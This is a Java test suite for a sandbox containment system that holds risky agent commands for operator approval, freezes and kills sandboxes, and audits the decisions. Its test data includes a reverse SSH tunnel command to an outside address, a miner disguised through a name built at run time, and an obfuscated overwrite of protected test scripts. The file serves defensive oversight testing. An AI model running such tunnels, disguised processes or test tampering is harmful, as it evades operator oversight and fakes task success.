package dev.ale.containment;

import dev.ale.core.event.SafetyEvent;
import dev.ale.core.event.SafetyEvent.Action;
import dev.ale.core.passport.Passport;
import dev.ale.core.passport.PassportLoader;
import dev.ale.core.passport.Phase;
import dev.ale.core.sandbox.ExecRequest;
import dev.ale.core.sandbox.ExecResult;
import dev.ale.core.sandbox.ProcessSnapshot;
import dev.ale.core.sandbox.SandboxException;
import dev.ale.core.sandbox.SandboxInfo;
import dev.ale.core.sandbox.SandboxRequest;
import dev.ale.monitor.audit.AuditLog;
import dev.ale.monitor.audit.AuditQuery;
import dev.ale.monitor.audit.AuditRecord;
import dev.ale.monitor.hold.Decision;
import dev.ale.monitor.hold.Hold;
import dev.ale.monitor.hold.HoldDesk;
import dev.ale.monitor.hold.HoldWebhook;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

/** Hold for approval in real sandboxes: a held command waits for an operator, a held sandbox is frozen until one decides. */
@Tag("root")
class HoldTest {

    @RegisterExtension
    static final TestContainment containment = new TestContainment();

    private static final Duration LIMIT = Duration.ofSeconds(60);
    /** Harmless once approved: autossh is not installed, so nothing connects anywhere; the touch shows the command ran. */
    private static final String HELD_COMMAND = "touch /workspace/ran; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9";
    /** A busy loop that the sweep (not the pre-exec check) finds: its program is named like a miner only at run time. */
    private static final String HIDDEN_MINER = "n=$(printf 'xm%s' rig); cp /bin/dash /tmp/$n; (/tmp/$n -c 'while :; do :; done' >/dev/null 2>&1 &)";

    /** /workspace/tests is protected, and an act on it waits for an operator. */
    private static final Passport GUARDS_TESTS = PassportLoader.parse("""
            id: hold-files
            protected: [/workspace/tests]
            detectors:
              tamper: {action: hold}
            hold: {deadline: 60s}
            """, "hold-files.yaml");

    private static Passport holding(String deadline, String wallTime) {
        return PassportLoader.parse("""
                id: hold-test
                resources: {wallTime: %s}
                detectors:
                  tunnel: {action: hold, penalty: 0.7}
                  mining: {action: hold}
                  persistence: {action: alert}
                hold: {deadline: %s}
                """.formatted(wallTime, deadline), "hold-test.yaml");
    }

    private static GuardedBackend backend() {
        return containment.containment();
    }

    private static HoldDesk desk() {
        return backend().holds();
    }

    /** A sandbox under {@link #GUARDS_TESTS} whose /workspace/tests was made during setup, now in the agent phase. */
    private static GuardedSandbox agentPhaseWithTestsDir() {
        GuardedSandbox s = backend().create(SandboxRequest.of(GUARDS_TESTS).startingIn(Phase.SETUP));
        assertThat(s.exec(ExecRequest.of("mkdir", "-p", "/workspace/tests")).exitCode()).isZero();
        s.enterPhase(Phase.AGENT);
        return s;
    }

    /** A write_file into the protected directory, on its own thread: it waits for an operator. */
    private static CompletableFuture<Void> writeTestLater(GuardedSandbox s) {
        return CompletableFuture.runAsync(() -> s.files().write("/workspace/tests/run.sh", "exit 0\n".getBytes(StandardCharsets.UTF_8)));
    }

    private static CompletableFuture<ExecResult> execLater(GuardedSandbox s, String script) {
        return CompletableFuture.supplyAsync(() -> s.exec(ExecRequest.of("sh", "-c", script).withTimeout(LIMIT)));
    }

    private static Hold pendingHoldOf(GuardedSandbox s) {
        return await().atMost(Duration.ofSeconds(60)).until(() -> s.holds().stream().filter(Hold::isPending).findFirst(),
                Optional::isPresent).orElseThrow();
    }

    private static boolean ran(GuardedSandbox s) {
        return s.exec(ExecRequest.of("test", "-e", "/workspace/ran")).exitCode() == 0;
    }

    @Test
    void aHeldCommandWaitsAndRunsOnceAnOperatorApprovesIt() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")).forEpisode("ep-approve"))) {
            s.enterStep(2);
            CompletableFuture<ExecResult> call = execLater(s, HELD_COMMAND);
            Hold hold = pendingHoldOf(s);
            assertThat(hold.kind()).isEqualTo(Hold.Kind.COMMAND);
            assertThat(hold.ruleId()).isEqualTo("tunnel.ssh.remote-forward");
            assertThat(hold.step()).hasValue(2);
            assertThat(call).as("the command waits for the operator").isNotDone();
            assertThat(ran(s)).as("nothing of it ran before the approval").isFalse();

            assertThat(desk().approve(hold.id(), "alice")).isInstanceOf(Decision.Settled.class);
            ExecResult r = call.get(60, TimeUnit.SECONDS);

            assertThat(ran(s)).isTrue();
            assertThat(r.exitCode()).isNotEqualTo(126);
            assertThat(r.events()).filteredOn(e -> e.action() == Action.HOLD).extracting(SafetyEvent::rule)
                    .contains("tunnel.ssh.remote-forward");
            SafetyEvent decision = r.events().stream().filter(SafetyEvent::isHoldDecision).findFirst().orElseThrow();
            assertThat(decision.action()).isEqualTo(Action.ALERT);
            assertThat(decision.evidence()).containsEntry("hold", hold.id()).containsEntry("decision", "approved")
                    .containsEntry("decidedBy", "alice").containsKey("decidedAt");
            assertThat(decision.step()).hasValue(2);
        }
    }

    @Test
    void aCommandAnOperatorApprovedIsNotHeldAgainWhenTheSweepSeesItRun() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")).forEpisode("ep-approved-runs"))) {
            // the shell that runs the approved line lives until the sweep has seen it (its argv names the remote forward)
            CompletableFuture<ExecResult> call = execLater(s, "touch /workspace/ran; while [ ! -e /tmp/go ]; do sleep 0.1; done; "
                    + HELD_COMMAND.substring(HELD_COMMAND.indexOf("autossh")));
            Hold hold = pendingHoldOf(s);
            desk().approve(hold.id(), "alice");

            SafetyEvent seen = await().atMost(Duration.ofSeconds(30)).until(() -> s.events().stream()
                    .filter(e -> "sweep".equals(e.evidence().get("source")) && e.rule().equals(hold.ruleId())).findFirst(), Optional::isPresent)
                    .orElseThrow();
            assertThat(seen.action()).as("the approved act is recorded, not held a second time").isEqualTo(Action.ALERT);
            assertThat(seen.evidence()).containsEntry("approvedHold", hold.id());
            s.files().write("/tmp/go", new byte[0]);
            ExecResult r = call.get(60, TimeUnit.SECONDS);
            assertThat(r.killed()).isFalse();
            assertThat(r.exitCode()).isNotEqualTo(126);
            assertThat(s.holds()).as("no run-time hold froze the sandbox").extracting(Hold::id).containsExactly(hold.id());
            assertThat(s.info().state()).isEqualTo(SandboxInfo.State.RUNNING);
            assertThat(ran(s)).isTrue();
        }
    }

    @Test
    void anApprovalCoversOnlyTheRulesItWasAskedForSoAMinerTheApprovedCommandStartsIsStillHeld() {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")).forEpisode("ep-approved-miner"))) {
            CompletableFuture<ExecResult> call = execLater(s, HIDDEN_MINER + "; sleep 3; " + HELD_COMMAND.substring(HELD_COMMAND.indexOf("autossh")));
            Hold command = pendingHoldOf(s);
            assertThat(command.ruleId()).isEqualTo("tunnel.ssh.remote-forward");
            desk().approve(command.id(), "alice");

            Hold runtime = await().atMost(Duration.ofSeconds(60)).until(() -> s.holds().stream().filter(Hold::isPending).findFirst(),
                    Optional::isPresent).orElseThrow();
            assertThat(runtime.kind()).isEqualTo(Hold.Kind.RUNTIME);
            assertThat(runtime.category().wire()).isEqualTo("mining");
            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.FROZEN);
            desk().deny(runtime.id(), "dave");
            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.KILLED);
            assertThat(s.killReason()).hasValue(runtime.ruleId());
            assertThat(call).succeedsWithin(Duration.ofSeconds(60)).satisfies(r -> assertThat(r.killed()).isTrue());
        }
    }

    @Test
    void aProtectedFileWriteAnOperatorApprovedIsNotTamperingButALaterChangeToItStillIs() throws Exception {
        try (GuardedSandbox s = agentPhaseWithTestsDir()) {
            CompletableFuture<Void> write = writeTestLater(s);
            Hold hold = pendingHoldOf(s);
            desk().approve(hold.id(), "alice");
            assertThat(write).succeedsWithin(Duration.ofSeconds(60));

            // a call's end checks the protected paths: the approved content is what they now hold
            assertThat(s.exec(ExecRequest.of("true")).exitCode()).isZero();
            assertThat(s.holds()).as("the approved write froze nothing").extracting(Hold::id).containsExactly(hold.id());
            assertThat(s.info().state()).isEqualTo(SandboxInfo.State.RUNNING);
            assertThat(s.events()).filteredOn(e -> e.rule().equals("tamper.protected.added")).singleElement()
                    .satisfies(e -> assertThat(e.action()).isEqualTo(Action.ALERT))
                    .satisfies(e -> assertThat(e.evidence()).containsEntry("approvedHold", hold.id()));

            // the approval was for that write: a later change, by a command that does not name the path, is tampering
            CompletableFuture<ExecResult> change = execLater(s, "d=$(printf 'te%s' sts); echo 'exit 0 # fine' > /workspace/$d/run.sh");
            Hold tamper = await().atMost(Duration.ofSeconds(60)).until(() -> s.holds().stream().filter(Hold::isPending).findFirst(),
                    Optional::isPresent).orElseThrow();
            assertThat(tamper.kind()).isEqualTo(Hold.Kind.RUNTIME);
            assertThat(tamper.ruleId()).isEqualTo("tamper.protected.changed");
            desk().deny(tamper.id(), "dave");
            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.KILLED);
            assertThat(change).succeedsWithin(Duration.ofSeconds(60));
        }
    }

    @Test
    void aCommandAnOperatorApprovedMayChangeTheProtectedPathItNamed() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(GUARDS_TESTS).startingIn(Phase.SETUP))) {
            assertThat(s.exec(ExecRequest.of("sh", "-c", "mkdir -p /workspace/tests && echo 'exit 1' > /workspace/tests/run.sh")).exitCode())
                    .isZero();
            s.enterPhase(Phase.AGENT);
            CompletableFuture<ExecResult> call = execLater(s, "sleep 1; echo 'exit 0' > /workspace/tests/run.sh");
            Hold hold = pendingHoldOf(s);
            assertThat(hold.ruleId()).isEqualTo("tamper.protected.named");
            desk().approve(hold.id(), "alice");

            assertThat(call.get(60, TimeUnit.SECONDS).exitCode()).isZero();
            assertThat(s.exec(ExecRequest.of("true")).exitCode()).isZero();
            assertThat(s.holds()).extracting(Hold::id).containsExactly(hold.id());
            assertThat(s.info().state()).isEqualTo(SandboxInfo.State.RUNNING);
            assertThat(s.events()).filteredOn(e -> e.rule().equals("tamper.protected.changed")).singleElement()
                    .satisfies(e -> assertThat(e.action()).isEqualTo(Action.ALERT))
                    .satisfies(e -> assertThat(e.evidence()).containsEntry("approvedHold", hold.id()));
        }
    }

    @Test
    void aHeldFileWriteWaitsForTheOperatorAndADenyRefusesIt() throws Exception {
        try (GuardedSandbox s = agentPhaseWithTestsDir()) {
            CompletableFuture<Void> write = writeTestLater(s);
            Hold hold = pendingHoldOf(s);
            assertThat(hold.category().wire()).isEqualTo("tamper");
            assertThat(write).isNotDone();

            desk().deny(hold.id(), "frank");

            assertThatThrownBy(() -> write.get(60, TimeUnit.SECONDS)).hasCauseInstanceOf(SandboxException.class)
                    .hasMessageContaining("refused by rule " + hold.ruleId()).hasMessageContaining("denied by frank");
            // a command naming the protected path would itself be held; this one names only /workspace
            ExecResult found = s.exec(ExecRequest.of("find", "/workspace", "-name", "run.sh"));
            assertThat(found.exitCode()).isZero();
            assertThat(found.stdout()).as("nothing was written").isEmpty();
        }
    }

    @Test
    void aHeldCommandAnOperatorDeniesIsBlockedAndTheAuditLogNamesWhoDenied() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")).forEpisode("ep-deny"))) {
            CompletableFuture<ExecResult> call = execLater(s, HELD_COMMAND);
            Hold hold = pendingHoldOf(s);

            desk().deny(hold.id(), "bob");
            ExecResult r = call.get(60, TimeUnit.SECONDS);

            assertThat(r.exitCode()).isEqualTo(126);
            assertThat(r.reason()).hasValue("tunnel.ssh.remote-forward");
            assertThat(r.stderr()).contains("denied by bob");
            assertThat(ran(s)).isFalse();
            try (AuditLog audit = AuditLog.openExisting(backend().auditFile())) {
                List<SafetyEvent> recorded = audit.query(AuditQuery.all()).stream()
                        .filter(a -> a.kind().equals(AuditRecord.SAFETY_EVENT)).map(AuditRecord::safetyEvent)
                        .filter(e -> hold.id().equals(e.evidence().get("hold"))).toList();
                assertThat(recorded).singleElement().satisfies(e -> {
                    assertThat(e.evidence()).containsEntry("decidedBy", "bob").containsEntry("decision", "denied");
                    assertThat(e.action()).isEqualTo(Action.BLOCK);
                    assertThat(e.episode()).hasValue("ep-deny");
                });
            }
        }
    }

    @Test
    void aHeldCommandNobodyAnswersIsDeniedAtItsDeadlineAndCannotBeApprovedAfter() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("1s", "10m")))) {
            ExecResult r = execLater(s, HELD_COMMAND).get(60, TimeUnit.SECONDS);

            assertThat(r.exitCode()).isEqualTo(126);
            assertThat(ran(s)).isFalse();
            Hold expired = s.holds().getFirst();
            assertThat(expired.state()).isEqualTo(Hold.State.EXPIRED);
            assertThat(expired.decidedBy()).hasValue(HoldDesk.DEADLINE);

            Decision late = desk().approve(expired.id(), "alice");
            assertThat(late).isInstanceOfSatisfying(Decision.AlreadySettled.class,
                    d -> assertThat(d.hold().state()).isEqualTo(Hold.State.EXPIRED));
            assertThat(ran(s)).as("a late approval runs nothing").isFalse();
        }
    }

    @Test
    void twoOperatorsDecidingOneHoldTheFirstWinsAndTheSecondIsToldWhoDecided() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")))) {
            CompletableFuture<ExecResult> call = execLater(s, HELD_COMMAND);
            Hold hold = pendingHoldOf(s);

            // both answers race; exactly one settles the hold
            CompletableFuture<Decision> approve = CompletableFuture.supplyAsync(() -> desk().approve(hold.id(), "alice"));
            CompletableFuture<Decision> deny = CompletableFuture.supplyAsync(() -> desk().deny(hold.id(), "bob"));
            List<Decision> both = List.of(approve.get(30, TimeUnit.SECONDS), deny.get(30, TimeUnit.SECONDS));

            assertThat(both).filteredOn(d -> d instanceof Decision.Settled).hasSize(1);
            Hold winner = ((Decision.Settled) both.stream().filter(d -> d instanceof Decision.Settled).findFirst().orElseThrow()).hold();
            assertThat(both).filteredOn(d -> d instanceof Decision.AlreadySettled).singleElement()
                    .satisfies(d -> assertThat(((Decision.AlreadySettled) d).hold().decidedBy()).isEqualTo(winner.decidedBy()));
            ExecResult r = call.get(60, TimeUnit.SECONDS);
            assertThat(r.exitCode() == 126).isEqualTo(!winner.approved());
            assertThat(r.events()).filteredOn(SafetyEvent::isHoldDecision).hasSize(1);
        }
    }

    @Test
    void aRuntimeHoldFreezesTheSandboxAtOnceAndApprovalThawsIt() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")).forEpisode("ep-freeze"))) {
            startHiddenMiner(s);
            Hold hold = pendingHoldOf(s);
            assertThat(hold.kind()).isEqualTo(Hold.Kind.RUNTIME);
            assertThat(hold.category().wire()).isEqualTo("mining");
            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.FROZEN);
            Path freezer = Path.of("/sys/fs/cgroup/freezer/ale", s.id(), "freezer.state");
            if (Files.exists(freezer)) assertThat(Files.readString(freezer).strip()).isEqualTo("FROZEN");
            long pid = miner(s).pid();
            long frozenAt = cpuTicks(pid);
            Thread.sleep(600);
            assertThat(cpuTicks(pid)).as("a frozen process uses no CPU").isEqualTo(frozenAt);

            desk().approve(hold.id(), "carol");

            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.RUNNING);
            await().atMost(Duration.ofSeconds(20)).until(() -> cpuTicks(pid) > frozenAt);
            assertThat(s.events()).filteredOn(SafetyEvent::isHoldDecision).singleElement()
                    .satisfies(e -> assertThat(e.evidence()).containsEntry("decidedBy", "carol"));
        }
    }

    @Test
    void aRuntimeHoldAnOperatorDeniesKillsTheSandbox() {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")))) {
            startHiddenMiner(s);
            Hold hold = pendingHoldOf(s);
            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.FROZEN);

            desk().deny(hold.id(), "dave");

            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.KILLED);
            assertThat(s.killReason()).hasValue(hold.ruleId());
            await().atMost(Duration.ofSeconds(20)).until(() -> s.processes().isEmpty());
        }
    }

    @Test
    void aFrozenSandboxStillMeetsItsWallTimeAndIsKilledNotLeftFrozen() {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("10m", "40s")))) {
            startHiddenMiner(s);
            Hold hold = pendingHoldOf(s);
            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.FROZEN);

            await().atMost(Duration.ofSeconds(90)).until(() -> s.info().state() == SandboxInfo.State.KILLED);

            assertThat(s.killReason()).hasValue("timeout");
            await().atMost(Duration.ofSeconds(20)).until(() -> s.processes().isEmpty());
            Path freezer = Path.of("/sys/fs/cgroup/freezer/ale", s.id(), "freezer.state");
            await().atMost(Duration.ofSeconds(10)).until(() -> !Files.exists(freezer) || Files.readString(freezer).strip().equals("THAWED"));
            // its hold (deadline 10 minutes) is not left pending on a dead sandbox for an operator to approve
            await().atMost(Duration.ofSeconds(20)).until(() -> !desk().find(hold.id()).orElseThrow().isPending());
            assertThat(desk().find(hold.id()).orElseThrow().decidedBy()).hasValue("ale (sandbox killed: timeout)");
        }
    }

    @Test
    void aHeldCommandWhoseSandboxRunsOutOfWallTimeIsDeniedThenAndNotAtItsLaterDeadline() throws Exception {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("10m", "30s")))) {
            CompletableFuture<ExecResult> call = execLater(s, HELD_COMMAND);
            Hold hold = pendingHoldOf(s);

            // the deadline is ten minutes away; the wall time of 30 s ends the wait
            ExecResult r = call.get(150, TimeUnit.SECONDS);

            assertThat(r.exitCode()).isEqualTo(126);
            assertThat(s.killReason()).hasValue("timeout");
            Hold settled = desk().find(hold.id()).orElseThrow();
            assertThat(settled.state()).isEqualTo(Hold.State.DENIED);
            assertThat(settled.decidedBy()).hasValue("ale (sandbox killed: timeout)");
            assertThat(r.events()).filteredOn(SafetyEvent::isHoldDecision).singleElement()
                    .satisfies(e -> assertThat(e.evidence()).containsEntry("decision", "denied"));
            assertThat(desk().approve(hold.id(), "alice")).as("nothing is left to approve").isInstanceOf(Decision.AlreadySettled.class);
        }
    }

    @Test
    void killingAFrozenSandboxByHandDeniesItsHoldAndLeavesNothingFrozen() {
        try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("10m", "10m")))) {
            startHiddenMiner(s);
            Hold hold = pendingHoldOf(s);
            await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.FROZEN);

            // what the console's kill button does
            s.kill("console: root");

            await().atMost(Duration.ofSeconds(20)).until(() -> !desk().find(hold.id()).orElseThrow().isPending());
            Hold settled = desk().find(hold.id()).orElseThrow();
            assertThat(settled.state()).isEqualTo(Hold.State.DENIED);
            assertThat(settled.decidedBy()).hasValue("ale (sandbox killed: console: root)");
            assertThat(s.killReason()).hasValue("console: root");
            await().atMost(Duration.ofSeconds(20)).until(() -> s.processes().isEmpty());
            Path freezer = Path.of("/sys/fs/cgroup/freezer/ale", s.id(), "freezer.state");
            await().atMost(Duration.ofSeconds(10)).until(() -> !Files.exists(freezer) || Files.readString(freezer).strip().equals("THAWED"));
        }
    }

    @Test
    void aWebhookThatNeverAnswersHoldsUpNeitherTheHoldNorItsDecision() throws Exception {
        try (ServerSocket silent = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            List<Socket> accepted = new CopyOnWriteArrayList<>();
            Thread acceptor = Thread.ofVirtual().start(() -> {
                try {
                    // takes each connection and never reads or answers it
                    while (true) accepted.add(silent.accept());
                } catch (IOException e) {
                    // closed at the end of the test
                }
            });
            HoldWebhook hook = backend().notifyHoldsTo(URI.create("http://127.0.0.1:" + silent.getLocalPort() + "/hook"), Duration.ofMinutes(3));
            try (GuardedSandbox s = backend().create(SandboxRequest.of(holding("60s", "10m")))) {
                startHiddenMiner(s);
                Hold hold = pendingHoldOf(s);
                await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.FROZEN);
                await().atMost(Duration.ofSeconds(20)).until(() -> !accepted.isEmpty());
                assertThat(hook.delivered() + hook.failed()).as("the webhook's POST is still stuck").isZero();

                desk().approve(hold.id(), "alice");

                await().atMost(Duration.ofSeconds(20)).until(() -> s.info().state() == SandboxInfo.State.RUNNING);
                assertThat(hook.delivered() + hook.failed()).as("thawed while the POST still hangs").isZero();
            } finally {
                for (Socket socket : accepted) socket.close();
                acceptor.interrupt();
            }
        }
    }

    /** In a shell session, whose processes outlive each command (an exec's own tree ends with it). */
    private static void startHiddenMiner(GuardedSandbox s) {
        s.openSession().run(HIDDEN_MINER);
    }

    private static ProcessSnapshot miner(GuardedSandbox s) {
        return s.processes().stream().filter(p -> p.name().equals("xmrig")).findFirst().orElseThrow();
    }

    /** utime + stime of a host process, from /proc. */
    private static long cpuTicks(long pid) throws IOException {
        String stat = Files.readString(Path.of("/proc", String.valueOf(pid), "stat"));
        String[] f = stat.substring(stat.lastIndexOf(')') + 2).split(" ");
        return Long.parseLong(f[11]) + Long.parseLong(f[12]);
    }
}
